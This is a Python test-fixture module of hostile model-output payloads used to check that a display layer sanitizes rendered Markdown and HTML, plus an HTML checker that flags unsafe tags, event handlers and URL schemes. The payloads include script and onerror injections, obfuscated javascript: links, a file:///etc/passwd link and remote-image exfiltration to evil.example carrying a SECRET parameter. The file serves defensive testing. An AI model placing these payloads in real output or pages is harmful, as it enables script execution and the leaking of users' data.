"""Hostile model output: payloads that try to run script, load remote content or hide text.

Shared by the rendering suites (``test_display.py``, the panel and browser tests). Each payload is
something a model (or text a prompt pulled in with ``{df}``) could send as reasoning or answer.
``check_html`` says whether an HTML string would do anything a page must not allow.
"""

from __future__ import annotations

from html.parser import HTMLParser

MARK = "window.__pwned=1"

PAYLOADS: list[str] = [
    # raw HTML and script
    f"<script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f'<img src="x" onerror="{MARK}">',
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f'<iframe srcdoc="<script>{MARK}</script>"></iframe>',
    f"<body onload={MARK}>",
    f"<details open ontoggle={MARK}>",
    f'<a href="javascript:{MARK}">click</a>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}>",
    '<style>body{background:url("https://evil.example/s?c=1")}</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=q></form>',
    f'<object data="javascript:{MARK}"></object>',
    f'<embed src="javascript:{MARK}">',
    f"<video><source onerror={MARK}></video>",
    f"<</p>img src=x onerror={MARK}>",
    f"<scr<script>ipt>{MARK}</script>",
    # Markdown links with unsafe schemes, spelled every way
    f"[click](javascript:{MARK})",
    f"[click](JaVaScRiPt:{MARK})",
    f"[click]( javascript:{MARK} )",
    f"[click](<javascript:{MARK}>)",
    f"[click](java&#115;cript:{MARK})",
    f"[click](&#x6A;avascript:{MARK})",
    f"[click](&#106;&#97;vascript:{MARK})",
    f"[click](jav&#x09;ascript:{MARK})",
    f"[click](javascript&colon;{MARK})",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    "[click](data:image/svg+xml,<svg onload=alert(1)>)",
    f"[click][r]\n\n[r]: javascript:{MARK}",
    f"[click][r]\n\n[r]: <javascript:{MARK}>",
    f"<javascript:{MARK}>",
    "[click](file:///etc/passwd)",
    # remote images: the classic exfiltration channel
    "![x](https://evil.example/p.png?secret=SECRET)",
    "![x](http://evil.example/p.png)",
    '![x](https://evil.example/p.png "title")',
    "![x][img]\n\n[img]: https://evil.example/ref.png?k=SECRET",
    "[![x](https://evil.example/in-link.png)](https://example.com)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](//evil.example/proto-relative.png)",
    # code spans and fences that try to smuggle HTML into the Markdown copy
    f"`` ` ``<img src=x onerror={MARK}>`` ` ``",
    f"\\`<img src=x onerror={MARK}>`",
    f"``x`<img src=x onerror={MARK}>``",
    f"| a |\n|---|\n| `<img src=x onerror={MARK}>|` |",
    f"    ```\n<img src=x onerror={MARK}>\n    ```",
    f"- item\n\n      ```\n<img src=x onerror={MARK}>\n      ```",
    f"- item\n```\n<img src=x onerror={MARK}>\n```",
    f"> quote\n```\n<img src=x onerror={MARK}>\n```",
    f"```\nfenced\n```\n<img src=x onerror={MARK}>",
    f"~~~\n<img src=x onerror={MARK}>",
    f"```js\n<script>{MARK}</script>\n```",
    f"<div>\n```\n<img src=x onerror={MARK}>\n```\n</div>",
    # entities and odd characters
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"\x1b[2J\x1b]8;;javascript:{MARK}\x1b\\link\x1b]8;;\x1b\\",
    f"\u202e<img src=x onerror={MARK}>",
    f"<img\nsrc=x\nonerror={MARK}>",
    f"$$\\href{{javascript:{MARK}}}{{x}}$$",
]

#: nesting deep enough to hit markdown-it's limit, with text after it that must stay visible
DEEP: list[str] = [
    ">" * 150 + " deep quote\n\nAFTER-DEEP-QUOTE",
    "".join("  " * i + "- level\n" for i in range(120)) + "\nAFTER-DEEP-LIST",
    "- " * 150 + "deep item\n\nAFTER-DEEP-INLINE-LIST",
    "[" * 200 + "x" + "]" * 200 + "\n\nAFTER-DEEP-BRACKETS",
    "*" * 300 + "x" + "*" * 300 + " AFTER-DEEP-EMPHASIS",
]

SAFE_TAGS = {"div", "details", "summary", "p", "pre", "code", "span", "strong", "em", "a", "ul",
             "ol", "li", "blockquote", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead",
             "tbody", "tr", "th", "td", "hr", "br", "s", "del"}
SAFE_SCHEMES = ("https://", "http://", "mailto:", "#")


class _Check(HTMLParser):
    def __init__(self, remote_images: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.remote_images = remote_images
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        allowed = SAFE_TAGS | ({"img"} if self.remote_images else set())
        if tag not in allowed:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            v = (value or "").strip().lower()
            if name.startswith("on"):
                self.problems.append(f"handler {name}= on <{tag}>")
            elif name in ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"):
                if name not in ("href", "src") or (name == "src" and tag != "img"):
                    self.problems.append(f"{name}= on <{tag}>")
                relative = name == "href" and ":" not in v.split("/")[0]
                if not (v.startswith(SAFE_SCHEMES) or relative):
                    self.problems.append(f"{name}={value!r} on <{tag}>")


def check_html(html: str, remote_images: bool = False) -> list[str]:
    """What in ``html`` could run, load or navigate somewhere unsafe ([] = nothing)."""
    p = _Check(remote_images)
    p.feed(html)
    p.close()
    return p.problems
